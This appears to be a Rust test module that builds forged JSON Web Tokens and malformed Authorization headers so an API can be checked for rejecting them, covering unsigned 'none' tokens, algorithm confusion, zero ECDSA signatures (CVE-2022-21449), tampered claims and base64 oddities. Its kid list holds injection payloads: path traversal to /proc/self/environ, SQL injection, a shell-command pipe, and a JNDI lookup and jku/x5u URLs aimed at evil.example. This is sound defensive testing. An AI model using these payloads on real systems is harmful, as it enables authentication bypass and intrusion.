//! The vectors of R21: bad tokens and headers, each next to a good one that differs in one thing.

use super::{Forge, NOW, encode, signed, spelled, standard};
use jsonwebtoken::Algorithm::{HS256, HS384, HS512};
use serde_json::{Value, json};

/// How a request shows what it has.
pub enum Shown {
    /// These `Authorization` headers.
    Headers(Vec<String>),
    /// `?token=`, for what no header can hold; GET only.
    Query(String),
}

/// Its name, and what is shown.
pub type Vector = (String, Shown);

/// One in the header as it should be.
pub fn token(name: impl Into<String>, token: impl AsRef<str>) -> Vector {
    (name.into(), Shown::Headers(vec![format!("Bearer {}", token.as_ref())]))
}

fn headers(name: &str, values: &[&str]) -> Vector {
    (name.into(), Shown::Headers(values.iter().map(|v| (*v).to_owned()).collect()))
}

/// All that are forged.
pub fn forged(forge: &Forge) -> Vec<Vector> {
    [unsigned, confused, keys, heads, claims, shapes, grammar].iter().flat_map(|group| group(forge)).collect()
}

fn unsigned(forge: &Forge) -> Vec<Vector> {
    let mut vectors = Vec::new();
    for alg in ["none", "None", "NONE", "nOnE", "NoNe", "none ", "non\u{0435}", ""] {
        let header = json!({ "alg": alg, "typ": "JWT", "kid": forge.own.kid() });
        vectors.push(token(format!("alg {alg:?}, no signature"), forge.stamped(&header, &[])));
        vectors.push(token(format!("alg {alg:?}, really signed"), forge.head("alg", alg)));
    }
    let [h, p, s] = forge.parts();
    let own = forge.header(&forge.own);
    let mut eve = forge.claims();
    (eve["userid"], eve["sub"]) = ("u-bob".into(), "u-bob".into());
    vectors.extend([
        token("no signature", format!("{h}.{p}.")),
        token("no signature and no dot", format!("{h}.{p}")),
        token("zero signature", forge.stamped(&own, &[0; 64])),
        token("signature of ones", forge.stamped(&own, &[0xff; 64])),
        token("signature of another payload", format!("{h}.{}.{s}", encode(eve.to_string()))),
        token("signature twice", format!("{h}.{p}.{s}{s}")),
    ]);
    vectors
}

fn confused(forge: &Forge) -> Vec<Vector> {
    let kid = forge.own.kid();
    let named = |alg: &str| json!({ "alg": alg, "typ": "JWT", "kid": kid });
    let mut vectors = Vec::new();
    for (form, secret) in forge.public_forms() {
        vectors.push(token(format!("HS256 with the public key as {form}"), forge.hmac(HS256, &secret)));
    }
    for (name, key) in [("RS256", &forge.rsa), ("ES256", &forge.ec), ("EdDSA", &forge.strange)] {
        vectors.push(token(format!("{name} of another key, our kid"), forge.by(key, &named(name))));
        vectors.push(token(format!("{name} of another key, its kid"), forge.by(key, &forge.header(key))));
        vectors.push(token(format!("signed {name}, said to be EdDSA"), forge.by(key, &named("EdDSA"))));
        let said = token(format!("signed by us, said to be {name} by another kid"), {
            forge.by(&forge.own, &forge.header(key))
        });
        vectors.push(said);
    }
    for alg in ["RS256", "RS512", "PS256", "ES256", "ES384", "ES256K", "HS256", "Ed25519", "Ed448", "eddsa"] {
        vectors.push(token(format!("signed by us, said to be {alg}"), forge.head("alg", alg)));
    }
    // CVE-2022-21449: r and s of zero, as they are and in DER.
    let zeros: [(&str, &[u8]); 3] =
        [("r, s", &[0; 64]), ("DER", &[0x30, 6, 2, 1, 0, 2, 1, 0]), ("P-384", &[0; 96])];
    for (form, zero) in zeros {
        vectors.push(token(format!("zero ECDSA signature: {form}"), forge.stamped(&named("ES256"), zero)));
    }
    vectors
        .push(token("zero ECDSA signature, its own kid", forge.stamped(&forge.header(&forge.ec), &[0; 64])));
    vectors.extend([
        token("HS256 with nothing", forge.hmac(HS256, b"\0")),
        token("HS256 with a word", forge.hmac(HS256, b"secret")),
        token("HS384 with the kid", forge.hmac(HS384, kid.as_bytes())),
        token("HS512 with the kid", forge.hmac(HS512, kid.as_bytes())),
        token("alg missing", forge.with_header(|h| drop(h.remove("alg")))),
        token("alg null", forge.head("alg", Value::Null)),
        token("alg a list", forge.head("alg", json!(["EdDSA"]))),
    ]);
    vectors
}

fn keys(forge: &Forge) -> Vec<Vector> {
    let (own, strange) = (&forge.own, &forge.strange);
    let mut vectors = Vec::new();
    for (name, kid) in [
        ("traversal", "../../../../../../dev/null"),
        ("traversal, encoded", "..%2f..%2fdev%2fnull"),
        ("absolute path", "/proc/self/environ"),
        ("SQL union", "x' UNION SELECT 'secret' -- "),
        ("SQL or", "' OR '1'='1"),
        ("command", "key|/usr/bin/id"),
        ("template", "${jndi:ldap://evil.example/a}"),
        ("URL", "https://evil.example/jwks.json"),
        ("unknown", "AAAAAAAAAAAAAAAA"),
        ("empty", ""),
        ("prefix of ours", &own.kid()[..15]),
        ("ours and a NUL", &format!("{}\0", own.kid())),
        ("ours and a space", &format!("{} ", own.kid())),
        ("long", &"k".repeat(2_000)),
    ] {
        vectors.push(token(format!("kid: {name}"), forge.head("kid", kid)));
        let mut head = forge.header(strange);
        head["kid"] = kid.into();
        vectors.push(token(format!("kid: {name}, another key"), forge.by(strange, &head)));
    }
    vectors.push(token("kid missing", forge.with_header(|h| drop(h.remove("kid")))));
    vectors.push(token("kid null", forge.head("kid", Value::Null)));
    vectors.push(token("kid a number", forge.head("kid", 0)));
    vectors.push(token("kid a list", forge.head("kid", json!([own.kid()]))));
    // The token brings or names the key that it is signed with.
    for (name, value) in [
        ("jwk", strange.jwk()),
        ("jku", json!("https://evil.example/jwks.json")),
        ("x5u", json!("https://evil.example/cert.pem")),
        ("x5c", json!(["bm8gY2VydGlmaWNhdGU="])),
        ("x5t#S256", json!("AAAA")),
    ] {
        for (whose, named) in [("our", own), ("its own", strange)] {
            let mut head = forge.header(named);
            head[name] = value.clone();
            vectors.push(token(format!("{name}, another key, {whose} kid"), forge.by(strange, &head)));
        }
        // Even signed by us: nothing here may read such a header.
        vectors.push(token(format!("{name}, our key"), forge.head(name, value)));
    }
    vectors
}

fn heads(forge: &Forge) -> Vec<Vector> {
    let kid = forge.own.kid();
    let raw = |header: String| signed(&forge.own, header, forge.claims().to_string());
    vec![
        token("crit", forge.head("crit", json!(["exp"]))),
        token("crit empty", forge.head("crit", json!([]))),
        token("b64 true", forge.head("b64", true)),
        token("zip", forge.head("zip", "DEF")),
        token("cty", forge.head("cty", "JWT")),
        token("enc", forge.head("enc", "A128GCM")),
        token("typ of an access token elsewhere", forge.head("typ", "at+jwt")),
        token("typ of a refresh token", forge.head("typ", "refresh+jwt")),
        token("typ empty", forge.head("typ", "")),
        token("typ null", forge.head("typ", Value::Null)),
        token("alg twice", raw(format!(r#"{{"alg":"none","alg":"EdDSA","typ":"JWT","kid":"{kid}"}}"#))),
        token("alg twice, once escaped", {
            raw(format!(r#"{{"alg":"EdDSA","\u0061lg":"none","typ":"JWT","kid":"{kid}"}}"#))
        }),
        token("kid twice", raw(format!(r#"{{"alg":"EdDSA","kid":"{kid}","typ":"JWT","kid":"{kid}"}}"#))),
        token("header is a list", raw(json!(["EdDSA", "JWT", kid]).to_string())),
        token("header is null", raw("null".into())),
        token("header is empty", raw(String::new())),
        token("header and more", raw(format!("{}{{}}", forge.header(&forge.own)))),
    ]
}

fn claims(forge: &Forge) -> Vec<Vector> {
    let body = forge.claims().to_string();
    let raw = |payload: String| signed(&forge.own, forge.header(&forge.own).to_string(), payload);
    let mut vectors = Vec::new();
    for name in ["userid", "clientid", "sub", "iss", "aud", "iat", "exp", "jti"] {
        vectors.push(token(format!("{name} missing"), forge.with_claims(|c| drop(c.remove(name)))));
        vectors.push(token(format!("{name} null"), forge.claim(name, Value::Null)));
        let twice = format!(r#"{{"{name}":{},{}"#, forge.claims()[name], &body[1..]);
        vectors.push(token(format!("{name} twice"), raw(twice)));
    }
    vectors.extend([
        token("userid twice, once escaped", raw(format!(r#"{{"\u0075serid":"u-bob",{}"#, &body[1..]))),
        token("scope twice", raw(format!(r#"{{"scope":"user","scope":"admin",{}"#, &body[1..]))),
        token("scope unknown", forge.claim("scope", "root")),
        token("scope in other case", forge.claim("scope", "Admin")),
        token("scope a list", forge.claim("scope", json!(["admin"]))),
        token("other issuer", forge.claim("iss", "beep2")),
        token("issuer in other case", forge.claim("iss", "Beep")),
        token("issuer as a list", forge.claim("iss", json!(["beep"]))),
        token("other audience", forge.claim("aud", "beep2")),
        token("audience as a list", forge.claim("aud", json!(["beep"]))),
        token("sub is somebody else", forge.claim("sub", "u-bob")),
        token("userid is somebody else", forge.claim("userid", "u-bob")),
        token("payload is null", raw("null".into())),
        token("payload is a token", raw(forge.good())),
        // Nothing of the last millisecond, nothing of the next one.
        token("exp now", forge.claim("exp", NOW)),
        token("exp a second ago", forge.claim("exp", NOW - 1)),
        token("exp 0", forge.claim("exp", 0)),
        token("exp below zero", forge.claim("exp", -1)),
        token("exp as a float", forge.claim("exp", NOW as f64 + 600.0)),
        token("exp as text", forge.claim("exp", (NOW + 600).to_string())),
        token("exp above u64", raw(body.replace(&(NOW + 600).to_string(), "18446744073709551616"))),
        token("iat in a second", forge.claim("iat", NOW + 1)),
        token("iat in milliseconds", forge.claim("iat", NOW * 1_000)),
        token("nbf in a second", forge.claim("nbf", NOW + 1)),
        token("nbf at the end of time", forge.claim("nbf", u64::MAX)),
        token("nbf as text", forge.claim("nbf", "0")),
        token("nbf twice", raw(format!(r#"{{"nbf":0,"nbf":0,{}"#, &body[1..]))),
    ]);
    vectors
}

fn shapes(forge: &Forge) -> Vec<Vector> {
    let good = forge.good();
    let [h, p, s] = forge.parts();
    let own = &forge.own;
    // A payload whose base64 has the letters that differ between the alphabets, and wants padding.
    let mut odd = forge.claims();
    odd["clientid"] = "?>?>?>~~~".into();
    let odd = (0..3).map(|n| format!("{odd}{}", " ".repeat(n)));
    let odd = odd.map(encode).find(|text| text.len() % 4 == 2).unwrap();
    assert!(odd.contains(['-', '_']));
    let broken = |part: &str, gap: &str| format!("{}{gap}{}", &part[..8], &part[8..]);
    // 64 bytes leave four unused bits in the last letter: others spell the same bytes to a lax decoder.
    let (front, last) = s.split_at(s.len() - 1);
    let neighbour = if last == "A" { "B" } else { "R" };
    let mut vectors = vec![
        token("one dot", "."),
        token("two dots", ".."),
        token("dots only", ".".repeat(4_000)),
        token("a word", "token"),
        token("null", "null"),
        token("four parts", format!("{good}.{s}")),
        token("five parts, as encrypted", format!("{h}.{p}.{s}.{p}.{s}")),
        token("parts in other order", format!("{p}.{h}.{s}")),
        token("no letters for the header", format!(".{p}.{s}")),
        token("no letters for the payload", format!("{h}..{s}")),
        token("JSON serialization", json!({ "protected": h, "payload": p, "signature": s }).to_string()),
        token("payload padded", spelled(own, &h, &format!("{odd}=="))),
        token("payload in the standard alphabet", spelled(own, &h, &standard(&odd))),
        token("payload padded, standard alphabet", spelled(own, &h, &format!("{}==", standard(&odd)))),
        token("payload percent-encoded", spelled(own, &h, &p.replacen('e', "%65", 1))),
        token("signature padded", format!("{good}==")),
        token("signature with unused bits", format!("{h}.{p}.{front}{neighbour}")),
        token("space in the payload", spelled(own, &h, &broken(&p, " "))),
        token("tab in the header", spelled(own, &broken(&h, "\t"), &p)),
        token("too long by far, really signed", forge.claim("x", "x".repeat(20_000))),
        token("too long by what is behind", format!("{good}{}", "A".repeat(20_000))),
        ("line feed in the payload".into(), Shown::Query(spelled(own, &h, &broken(&p, "\n")))),
        ("line break in the signature".into(), Shown::Query(format!("{h}.{p}.{}", broken(&s, "\r\n")))),
        ("line feed behind".into(), Shown::Query(format!("{good}\n"))),
        ("NUL behind".into(), Shown::Query(format!("{good}\0"))),
        ("space in front".into(), Shown::Query(format!(" {good}"))),
        ("a scheme in the query".into(), Shown::Query(format!("Bearer {good}"))),
        ("nothing in the query".into(), Shown::Query(String::new())),
    ];
    for cut in [1, 2, 10, s.len() - 1, s.len(), s.len() + 1, s.len() + p.len() + 1] {
        vectors.push(token(format!("{cut} letters missing at the end"), &good[..good.len() - cut]));
    }
    for cut in [1, 4, h.len(), h.len() + 1] {
        vectors.push(token(format!("{cut} letters missing at the beginning"), &good[cut..]));
    }
    vectors
}

/// Nothing is wrong here but the grammar of the header: `http_auth` has more of that for one route.
fn grammar(forge: &Forge) -> Vec<Vector> {
    let good = &forge.good();
    let bearer = &format!("Bearer {good}");
    vec![
        headers("no header", &[]),
        headers("empty header", &[""]),
        headers("a scheme alone", &["Bearer"]),
        headers("a token alone", &[good]),
        headers("fooBearer", &[&format!("fooBearer {good}")]),
        headers("Bearerfoo", &[&format!("Bearerfoo {good}")]),
        headers("Basic", &[&format!("Basic {good}")]),
        headers("a colon", &[&format!("Bearer: {good}")]),
        headers("a tab", &[&format!("Bearer\t{good}")]),
        headers("quotes", &[&format!("Bearer \"{good}\"")]),
        headers("a comma", &[&format!("{bearer}, {bearer}")]),
        headers("two tokens", &[&format!("{bearer} {good}")]),
        headers("two headers", &[bearer, bearer]),
        headers("two headers, the second bad", &[bearer, "Bearer x"]),
        headers("two headers, the first empty", &["", bearer]),
        headers("not ASCII", &[&format!("{bearer}\u{e4}")]),
    ]
}
